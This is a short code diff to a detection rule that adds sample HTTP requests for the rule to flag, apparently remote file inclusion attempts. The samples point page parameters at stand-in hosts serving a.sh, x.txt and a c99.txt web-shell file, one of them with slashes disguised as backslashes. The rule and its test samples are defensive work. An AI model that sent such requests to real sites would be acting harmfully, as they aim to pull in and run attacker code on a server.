@@ -46,6 +46,8 @@ export default defineRule({
     'GET /a.php?x=ftp://203.0.113.9/a.sh HTTP/1.1',
     'GET /index.php?page=https://evil.example/x.txt? HTTP/1.1',
     'GET /index.php?page=ftps://evil.example/x.txt? HTTP/1.1',
+    'GET /a.php?page=+http://203.0.113.9/c99.txt HTTP/1.1',
+    'GET /a.php?page=http:\\\\203.0.113.9\\a.txt? HTTP/1.1',
   ],
   misses: [
     'GET /go?url=http://example.org/index.php HTTP/1.1',
